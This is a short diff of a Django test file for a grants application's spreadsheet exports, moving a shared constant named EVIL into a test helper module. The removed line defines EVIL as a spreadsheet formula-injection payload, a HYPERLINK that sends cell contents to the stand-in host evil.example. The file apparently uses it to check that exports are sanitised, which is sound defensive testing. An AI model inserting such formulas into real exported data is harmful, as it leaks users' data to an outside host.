@@ -9,13 +9,12 @@ from decimal import Decimal
 import pytest
 
 from tests.factories import OrganisationFactory, UserFactory, funded_programme, line
-from tests.list_exports import page_table, pounds, read_csv, read_xlsx
+from tests.list_exports import EVIL, page_table, pounds, read_csv, read_xlsx
 from vcsgrants.core.models import Role
 from vcsgrants.funding.services import agreements as agreement_services
 from vcsgrants.funding.services import payments as payment_services
 
 pytestmark = pytest.mark.django_db
-EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
 
 
 def test_the_money_tables_download_with_the_pages_figures_and_totals(officer, districts, client):
